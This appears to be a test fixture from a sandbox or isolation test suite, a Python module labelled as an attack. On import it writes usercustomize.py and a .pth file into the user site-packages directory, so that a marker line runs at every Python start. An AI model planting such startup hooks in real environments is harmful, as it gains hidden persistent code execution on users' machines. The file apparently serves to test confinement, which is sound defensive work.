"""Attack: write usercustomize.py and a .pth file to where the site module looks for them."""

import contextlib
import site
from pathlib import Path

from fastapi import FastAPI

from .targets import OUTSIDE, POISON, acted

LINE = f"import pathlib; pathlib.Path({OUTSIDE!r}, 'started').write_text({POISON!r})\n"
folder = Path("~").expanduser() / Path(site.getusersitepackages()).relative_to(
    Path(site.getuserbase())
)
acted("import")
with contextlib.suppress(OSError):
    folder.mkdir(parents=True)
    (folder / "usercustomize.py").write_text(LINE)
    (folder / "started.pth").write_text(LINE)
app = FastAPI()
